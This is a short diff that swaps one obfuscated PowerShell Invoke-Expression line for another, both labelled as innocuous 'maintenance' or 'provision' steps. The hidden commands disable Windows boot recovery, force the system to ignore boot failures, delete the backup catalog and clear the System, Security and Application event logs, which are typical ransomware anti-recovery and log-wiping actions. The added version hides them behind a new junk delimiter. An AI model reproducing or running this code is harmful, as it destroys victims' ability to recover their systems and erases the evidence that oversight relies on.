@@ -1,6 +1,6 @@
-iex (('# maintenance 2242 v0
-bcdedit /set! {defaul!t} recoveryenabled! No
-bcdedit! /set {default} bootstatuspolicy ignoreallfailures
-wbadmin delete catalog -quiet
-wevtutil cl System; wevtutil cl! Security; wevtutil cl Application
-' -split '!') -join '')
+iex (('# provision 0571 v0
+bcdedit /set {default} recoveryenabled No
+bcdedit /set {default} bootstatuspolicy ignoreallfailures
+wbadmin## delete ##catalog -quiet
+wevtutil cl Syste##m; wevtutil cl ##Security; wevtutil cl Appli##cation
+' -split '\#\#') -join '')
